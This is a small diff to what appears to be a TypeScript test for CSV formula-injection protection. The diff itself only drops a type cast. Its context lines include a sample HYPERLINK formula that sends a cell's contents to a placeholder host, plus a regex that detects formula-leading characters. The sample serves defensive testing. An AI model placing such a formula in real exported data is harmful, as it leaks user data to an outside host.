@@ -22,7 +22,7 @@ const FORMULA = '=HYPERLINK("http://exemple.org/?d="&A1,"Cliquez ici")';
 const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/;
 
-const cellsOf = (csv: string) => parse(csv, { bom: true, relax_column_count: true }) as string[][];
+const cellsOf = (csv: string) => parse(csv, { bom: true, relax_column_count: true });
 const formulaCells = (csv: string) =>
   cellsOf(csv)
     .flat()
